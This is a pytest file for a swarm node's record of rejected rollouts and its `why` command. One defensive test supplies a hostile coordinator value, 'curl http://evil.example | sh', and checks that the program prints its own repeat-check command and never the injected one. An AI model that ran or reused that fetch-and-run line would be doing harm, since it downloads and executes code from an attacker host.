"""A node's own record of rejections: kept before the rollout is forgotten, bounded, and printed by `why`."""

import json
import os
from collections.abc import Iterable, Sequence
from pathlib import Path

import pytest

from protocol.errors import DiskFull, LeaseClosed, NonceReplayed, Overloaded, SwarmError, TokensInvalid
from protocol.ids import LeaseId
from protocol.wire import canonical
from protocol.wire.signing import NodeKey
from protocol.work import evidence
from protocol.work.auditing import Explanation, Explanations
from protocol.work.evidence import RejectionEvidence
from protocol.work.lease import Lease
from protocol.work.messages import Submission, SubmissionReply, Verdict
from swarm_node.commands import why
from swarm_node.ledger.receipts import Claims
from swarm_node.work import records as keeping
from swarm_node.work.outbox import Outbox
from swarm_node.work.records import Rejections
from swarm_node.work.sender import Sender
from swarm_node.work.verdicts import VerdictRecorder
from tests.swarm_node.commands.test_words import STEERING

KEY = NodeKey(b"n" * 32)
LEASES = [LeaseId(f"{number:032x}") for number in range(3)]


class Says:
    """A coordinator that answers every submission with the same."""

    def __init__(self, verdicts: Sequence[Verdict] | SwarmError, *turns: Lease) -> None:
        self.verdicts, self.turns = verdicts, turns

    async def submit(self, _message: Submission) -> SubmissionReply:
        if isinstance(self.verdicts, SwarmError):
            raise SwarmError.from_wire(canonical.decode(canonical.encode(self.verdicts.to_wire())))
        return SubmissionReply(verdicts=tuple(self.verdicts), leases=self.turns)


class Turns:
    """A worker that records the leases of next turns."""

    def __init__(self) -> None:
        self.taken: list[Lease] = []

    async def __call__(self, leases: Sequence[Lease]) -> None:
        self.taken += leases


def envelope(lease_id: str) -> bytes:
    return KEY.seal("rollout", lease_id.encode())


def found(error: SwarmError, lease_id: str) -> RejectionEvidence:
    return evidence.build_evidence(error, envelope=envelope(lease_id), lease_id=lease_id)


def rejected(error: SwarmError, lease_id: str) -> Verdict:
    return Verdict(
        lease_id=lease_id, outcome="rejected", code=error.code, message=str(error), evidence=found(error, lease_id)
    )


def sender(folder: Path, says: Says, *leases: LeaseId) -> tuple[Sender, Rejections]:
    outbox, rejections = Outbox(folder / "outbox"), Rejections(folder / "refusals")
    for lease_id in leases:
        outbox.put(lease_id, envelope(lease_id))
    verdicts = VerdictRecorder(outbox, Claims(folder / "claims"), rejections)
    return Sender(says, outbox, verdicts), rejections  # type: ignore[arg-type]  # a fake of one call


@pytest.mark.trio
async def test_what_was_rejected_is_kept_with_its_rollout(tmp_path: Path) -> None:
    error = TokensInvalid("Too many.")
    verdicts = [rejected(error, LEASES[0]), Verdict(lease_id=LEASES[1], outcome="accepted")]
    one, rejections = sender(tmp_path, Says(verdicts), *LEASES[:2])
    await one.send_some(Turns())
    (kept,) = rejections
    assert (kept.lease_id, kept.evidence, kept.rollout) == (LEASES[0], found(error, LEASES[0]), envelope(LEASES[0]))


@pytest.mark.trio
async def test_a_refused_request_is_kept_for_each_of_its_rollouts_until_they_are_taken(tmp_path: Path) -> None:
    """The rollouts wait: their evidence is that of the request, and goes when they are accepted after all."""
    says = Says(NonceReplayed("Used before."))
    one, rejections = sender(tmp_path, says, *LEASES)
    with pytest.raises(NonceReplayed):
        await one.send_some(Turns())
    assert {kept.lease_id: kept.evidence.step for kept in rejections} == dict.fromkeys(LEASES, "nonce")
    says.verdicts = [Verdict(lease_id=lease_id, outcome="accepted") for lease_id in LEASES]
    await one.send_some(Turns())
    assert list(rejections) == []


class Full(Rejections):
    """A record on a disk without room."""

    def record(self, lease_id: str, envelope: bytes, evidence: RejectionEvidence) -> None:
        raise DiskFull("No room.")


@pytest.mark.trio
async def test_without_room_for_evidence_a_rejection_is_still_one_and_work_goes_on(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Sent again, the rollout would be rejected for having been judged, until the guard stops the node."""
    says = Says([rejected(TokensInvalid("Too many."), lease_id) for lease_id in LEASES])
    outbox = Outbox(tmp_path / "outbox")
    for lease_id in LEASES:
        outbox.put(lease_id, envelope(lease_id))
    recorder = VerdictRecorder(outbox, Claims(tmp_path / "claims"), Full(tmp_path / "refusals"))
    one = Sender(says, outbox, recorder)  # type: ignore[arg-type]  # a fake of one call
    assert await one.send_some(Turns()) == 3
    assert outbox.waiting(3, 10**6) == {}
    assert recorder.rejected == {"tokens_invalid": 3}
    assert sum("cannot save the evidence" in record.message for record in caplog.records) == 1
    says.verdicts = NonceReplayed("Used before.")
    outbox.put(LEASES[0], envelope(LEASES[0]))
    with pytest.raises(NonceReplayed):
        await one.send_some(Turns())


@pytest.mark.trio
async def test_the_leases_of_next_turns_reach_the_worker_before_the_verdicts_are_recorded(tmp_path: Path) -> None:
    """Also when the disk is full then: the turn is begun, and the rollout is sent again."""
    turn = Lease(
        lease_id="f" * 32,
        version=1,
        seed=1,
        samples=1,
        prompt=bytes(4),
        price_micros_per_mtok=1,
        expires_ms=0,
        turn_tokens_max=4,
    )

    class FullClaims(Claims):
        def add(self, envelopes: Iterable[bytes]) -> list[str]:
            raise DiskFull("No room.")

    outbox, turns = Outbox(tmp_path / "outbox"), Turns()
    outbox.put(LEASES[0], envelope(LEASES[0]))
    says = Says([Verdict(lease_id=LEASES[0], outcome="accepted")], turn)
    recorder = VerdictRecorder(outbox, FullClaims(tmp_path / "claims"), Rejections(tmp_path / "refusals"))
    one = Sender(says, outbox, recorder)  # type: ignore[arg-type]  # a fake of one call
    with pytest.raises(DiskFull):
        await one.send_some(turns)
    assert turns.taken == [turn]
    assert list(outbox.waiting(1, 10**6)) == [LEASES[0]]


@pytest.mark.trio
async def test_a_coordinator_that_has_too_much_to_do_refuses_nothing(tmp_path: Path) -> None:
    one, rejections = sender(tmp_path, Says(Overloaded("Later.")), LEASES[0])
    with pytest.raises(Overloaded):
        await one.send_some(Turns())
    assert list(rejections) == []


def test_refusals_without_end_fill_no_disk(tmp_path: Path) -> None:
    rejections = Rejections(tmp_path / "refusals")
    for number in range(keeping.KEPT_MAX + 5):
        lease_id = f"{number:032x}"
        rejections.record(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
        _date(tmp_path, lease_id, number)
    kept = [one.lease_id for one in rejections]
    assert kept == [f"{number:032x}" for number in range(keeping.KEPT_MAX + 4, 4, -1)]
    rejections = Rejections(tmp_path / "refusals", kept_bytes_max=1)
    rejections.record("f" * 32, envelope("f" * 32), found(LeaseClosed("Late."), "f" * 32))
    assert [one.lease_id for one in rejections] == ["f" * 32], "the newest, however large"


def _date(folder: Path, lease_id: str, second: int) -> None:
    """Files written within one tick of the file system's clock have no order."""
    os.utime(folder / "refusals" / f"{lease_id}.refusal", (second, second))


def test_a_damaged_record_is_passed_over(tmp_path: Path) -> None:
    rejections = Rejections(tmp_path / "refusals")
    for lease_id in LEASES:
        rejections.record(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
    (tmp_path / "refusals" / f"{LEASES[1]}.refusal").write_bytes(b"\xc1 cut sho")
    assert {one.lease_id for one in rejections} == {LEASES[0], LEASES[2]}


def test_why_prints_the_evidence_of_leases_that_the_coordinator_knows_and_does_not_know(tmp_path: Path) -> None:
    rejections = Rejections(tmp_path / "refusals")
    for lease_id in LEASES[:2]:
        rejections.record(lease_id, envelope(lease_id), found(TokensInvalid(STEERING), lease_id))
    known = Explanation(
        lease_id=LEASES[0], claim_id="", state="rejected", code="tokens_invalid", said="", finding="", appeal="",
        ruling="", report=b"", lease=b"", rollout=b"",
    )  # fmt: skip
    answer = Explanations(tolerance="", tolerances=b"", explanations=(known,))
    told = list(why.report(answer, list(rejections), as_json=False))
    text = "\n".join(told)
    for lease_id in LEASES[:2]:
        seen = found(TokensInvalid(STEERING), lease_id)
        words = (lease_id, seen.code, seen.claim_id, seen.field, seen.expected, seen.validator, seen.command)
        assert [word for word in words if word not in text] == []
    assert all(line.isprintable() for line in told), "a stranger's words steer no terminal"
    lines = [json.loads(line) for line in why.report(answer, list(rejections), as_json=True)]
    assert {line["lease_id"]: line["refused"]["code"] for line in lines} == dict.fromkeys(LEASES[:2], "tokens_invalid")


def test_the_command_that_repeats_a_check_is_this_programs_own_whatever_the_coordinator_says(tmp_path: Path) -> None:
    """Readers are to type the command."""
    rejections, error = Rejections(tmp_path / "refusals"), TokensInvalid("Too many.")
    evil = found(error, LEASES[0]).model_copy(update={"command": "curl http://evil.example | sh"})
    rejections.record(LEASES[0], envelope(LEASES[0]), evil)
    (told,) = (line for line in why.report(why.NOTHING, list(rejections), as_json=False) if "repeat the check" in line)
    assert told.strip() == f"repeat the check: `{found(error, LEASES[0]).command}`"
    (line,) = why.report(why.NOTHING, list(rejections), as_json=True)
    assert json.loads(line)["refused"]["command"] == found(error, LEASES[0]).command


def test_a_file_that_is_deleted_while_the_folder_is_read_is_skipped(tmp_path: Path) -> None:
    rejections = Rejections(tmp_path)
    rejections.record(LEASES[0], b"", found(TokensInvalid("no"), LEASES[0]))
    (tmp_path / "deleted.refusal").symlink_to(tmp_path / "nowhere")  # listed, and not there
    rejections.record(LEASES[1], b"", found(TokensInvalid("no"), LEASES[1]))
    assert {rejection.lease_id for rejection in rejections} == set(LEASES[:2])
